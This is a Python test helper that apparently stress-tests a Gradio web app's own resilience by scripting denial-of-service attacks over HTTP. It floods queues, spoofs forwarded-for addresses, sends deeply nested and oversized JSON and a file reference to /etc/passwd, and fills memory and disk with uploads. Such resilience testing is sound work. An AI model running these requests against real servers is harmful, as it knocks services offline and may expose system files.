"""A stranger who means harm, over HTTP: what was found to end, fill or slow the page, bounded in count and in time."""

from __future__ import annotations

import json
import secrets
import threading
import weakref
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from typing import Any

import httpx

from forms import END, FORM, part
from visitor import COMPARE, PREFIX, Visitor

ADDRESS = "8.8.8.8"  # as the proxy tells it; a made-up one stands before it, which changes


class Attacker:
    """Somebody with one address and as many sessions as he likes."""

    def __init__(self, url: str) -> None:
        """Look at the page once."""
        self.http = httpx.Client(base_url=url, timeout=60)
        weakref.finalize(self, self.http.close)
        self.answers: Counter[int] = Counter()
        with Visitor(url) as visitor:
            self.events = [event for event in visitor.config["dependencies"] if event["backend_fn"]]
            button = visitor.component(COMPARE)
        self.comparing = next(event for event in self.events if [button, "click"] in event["targets"])
        self.example = next(event for event in self.events if not event["inputs"])

    def send(self, method: str, route: str, **content: Any) -> httpx.Response:
        """Send a request, and count the answer; 599 if the server hung up."""
        headers = {"x-forwarded-for": f"{secrets.randbelow(200) + 1}.1.1.1, {ADDRESS}", **content.pop("headers", {})}
        try:
            answer = self.http.request(method, route, headers=headers, **content)
        except httpx.TransportError:
            answer = httpx.Response(599)
        self.answers[answer.status_code] += 1
        return answer

    def join(self, event: dict[str, Any], data: list[Any], session: str | None = None, **more: Any) -> httpx.Response:
        """Join the queue and never listen."""
        body = {"data": data, "fn_index": event["id"], "trigger_id": event["targets"][0][0]}
        session = secrets.token_hex(6) if session is None else session
        return self.send("POST", f"{PREFIX}/queue/join", json={**body, "session_hash": session}, **more)

    # ------------------------------------------------------------------------------------------------------ the attacks

    def end_the_queue(self) -> None:
        """An event that has no message queue to be told ended Gradio's own: an empty session, or one pushed out."""
        nothing = [None] * len(self.comparing["inputs"])
        with ThreadPoolExecutor(8) as pool:
            list(pool.map(lambda _: self.join(self.comparing, nothing, session=""), range(24)))
        for _ in range(120):
            self.join(self.example, [])
        self.send("GET", f"{PREFIX}/queue/data", params={"session_hash": "nobody"})

    def fill_the_queue(self) -> None:
        """More comparisons than there are places, of one session and of many."""
        nothing = [None] * len(self.comparing["inputs"])
        session = secrets.token_hex(6)
        for _ in range(45):
            self.join(self.comparing, nothing, session)
            self.join(self.comparing, nothing)

    def stall_the_loop(self) -> None:
        """Bodies that take long to read, and names that stay in memory."""
        file = {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}
        rest = f'"fn_index": {self.comparing["id"]}, "session_hash": "abcdefghijk"'
        for data in (
            json.dumps([None, [{"image": file, "caption": None}] * 6797, []]),
            "[null, " + "[" * 900 + "]" * 900 + ", null]",
            '{"a":' * 900 + "1" + "}" * 900,
            json.dumps([{f"key {number}": number for number in range(20_000)}, None, None]),
            json.dumps([{**file, "orig_name": "n" * 900_000}, None, None]),
        ):
            self.send("POST", f"{PREFIX}/queue/join", content=f'{{"data": {data}, {rest}}}')
        for session in ("s" * 2**20, "a<gradio-sep>b<gradio-sep>c"):
            self.join(self.example, [], session)
        self.send("GET", "/static/" + "a" * 5000)
        name = {"event_id": "0" * 32, "session_hash": "x", "fn_index": 0}
        self.send("POST", f"{PREFIX}/cancel", json=name)

    def fill_the_memory(self) -> None:
        """Form fields that are no files, and names of uploads that are kept for ever."""
        self.send("POST", f"{PREFIX}/upload", content=part(bytes(64 * 2**20), filename=None) + END, headers=FORM)
        for _ in range(20):
            self.send("GET", f"{PREFIX}/upload_progress", params={"upload_id": "u" * 20_000})

    def fill_the_disk(self) -> None:
        """Files of which nobody has need, and some that break off."""
        for _ in range(8):
            self.send("POST", f"{PREFIX}/upload", content=part(secrets.token_bytes(2**23)) + END, headers=FORM)
            self.send("POST", f"{PREFIX}/upload", content=part(bytes(2**22), name="other") + END, headers=FORM)
            self.send("POST", f"{PREFIX}/upload", content=part(bytes(2**22)), headers=FORM)

    @property
    def attacks(self) -> list[Callable[[], None]]:
        """All of them."""
        return [
            self.end_the_queue,
            self.fill_the_queue,
            self.stall_the_loop,
            self.fill_the_memory,
            self.fill_the_disk,
        ]


@contextmanager
def attacking(url: str) -> Iterator[Attacker]:
    """All attacks, one after the other and again, while the block runs; the round under way is awaited."""
    attacker, over = Attacker(url), threading.Event()

    def attack() -> None:
        while not over.is_set():
            for step in attacker.attacks:
                step()

    thread = threading.Thread(target=attack)
    thread.start()
    try:
        yield attacker
    finally:
        over.set()
        thread.join()
